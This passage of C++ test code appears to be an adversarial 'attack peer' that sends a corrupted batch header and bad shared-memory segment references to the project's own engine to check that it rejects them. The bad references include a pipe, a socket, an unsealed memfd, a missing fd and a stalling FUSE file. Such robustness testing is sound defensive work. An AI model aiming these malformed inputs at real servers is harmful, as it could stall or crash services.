    // A batch of two updates on our own connection whose second entry's
    // magic is damaged: nothing of it runs, and the engine closes the
    // connection with a bye naming the rule.
    std::vector<uint8_t> batch(wire::kHeaderSize);
    for (uint64_t id : {uint64_t{0x105}, uint64_t{0x106}}) {
      m.request_id = id;
      const size_t at = batch.size();
      batch.resize(at + wire::BatchEntrySize(m));
      if (auto n = wire::EncodeBatchEntry(m, std::span<uint8_t>(batch).subspan(at)); !n.ok())
        return Report("encode", n.status()), 1;
    }
    if (Status st = wire::EncodeBatchHeader(c.server_conn_id, batch.size() - wire::kHeaderSize, batch); !st.ok())
      return Report("encode", st), 1;
    batch[wire::kHeaderSize + wire::BatchEntrySize(m) + wire::kBatchEntryPrefix] ^= 0xff;
    if (Status st = c.Send(batch); !st.ok()) return Report("send", st), 1;
    c.ProgressUntil([&] { return c.bye.has_value() || c.ep_failed; }, NumArg("timeout_ms", 5000));
    Report("malformed_batch", !c.bye ? Status::TimedOut("no bye after a malformed batch")
                                     : Status::Disconnected(*c.bye));
    Value("batch_entries_answered", std::to_string(c.replies.count(0x105) + c.replies.count(0x106)));
    return 0;
  }
  if (attack == "segment-fd") {
    // Segment references to descriptors that are not sealed memfds: a
    // pipe, a socket, a regular file, and an fd number we do not have.
    int pipe_fds[2];
    int sv[2];
    if (pipe(pipe_fds) != 0 || socketpair(AF_UNIX, SOCK_STREAM, 0, sv) != 0) return 1;
    const int file = open("/proc/self/exe", O_RDONLY);
    // A memfd with the segment's name and size but without the shrink seal:
    // the client could truncate it under the engine's copy (SIGBUS).
    const int unsealed = memfd_create(fmt::format("ros2-seg-{:016x}", 0x1234).c_str(), MFD_CLOEXEC);
    if (unsealed < 0 || ftruncate(unsealed, static_cast<off_t>(len)) != 0) return 1;
    const std::vector<std::pair<std::string, int>> fds = {
        {"pipe", pipe_fds[0]}, {"socket", sv[0]}, {"file", file}, {"unsealed", unsealed}, {"missing", 999}};
    uint64_t id = 0x200;
    for (const auto& [name, fd] : fds) {
      std::vector<uint8_t> payload;
      wire::Message m = UpdateMessage(c, id, len, payload, cap);
      std::array<uint8_t, wire::kSegmentRefSize> ref{};
      wire::EncodeSegmentRef(wire::SegmentRef{0x1234, fd}, ref);
      m.bulk[0].transfer = wire::BulkTransfer::kSegment;
      m.bulk[0].rkey = ref;
      if (Status st = c.SendEncoded(m); !st.ok()) return Report("send", st), 1;
      Report(name, c.AwaitReply(id++));
    }
    return 0;
  }
  if (attack == "segment-fuse") {
    // A segment reference to a file on a FUSE mount whose daemon stalls
    // once the file is open: the server must refuse it without asking the
    // file system anything.
    StallingFuse fuse;
    if (Status st = fuse.Mount(); !st.ok()) return Report("mount", st), 1;
    const int fd = open((fuse.mountpoint + "/f").c_str(), O_RDONLY);
    if (fd < 0) return Report("open", Status::FromErrno(errno, "opening the FUSE file")), 1;
    StallingFuse::stall = true;
    std::vector<uint8_t> payload;
    wire::Message m = UpdateMessage(c, 0x300, len, payload, cap);
    std::array<uint8_t, wire::kSegmentRefSize> ref{};
    wire::EncodeSegmentRef(wire::SegmentRef{0x1234, fd}, ref);
    m.bulk[0].transfer = wire::BulkTransfer::kSegment;
    m.bulk[0].rkey = ref;
    const auto t0 = std::chrono::steady_clock::now();
    if (Status st = c.SendEncoded(m); !st.ok()) return Report("send", st), 1;
    Report("attack", c.AwaitReply(0x300));
    Value("elapsed_ms",
          std::to_string(
              std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::steady_clock::now() - t0).count()));
    // Keep the daemon stalled while the test checks the victim.
    Value("holding", "1");
    std::this_thread::sleep_for(std::chrono::milliseconds(NumArg("hold_ms", 3000)));
    close(fd);
    return 0;
  }
  Report("attack", Status::InvalidArgument("unknown attack " + attack));
  return 1;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 2) {
    fprintf(stderr, "usage: %s <attack> key=value ...\n", argv[0]);
    return 2;
  }
  ros2::testing::attack_peer::ParseArgs(argc, argv, 2);
  return Run(argv[1]);
}
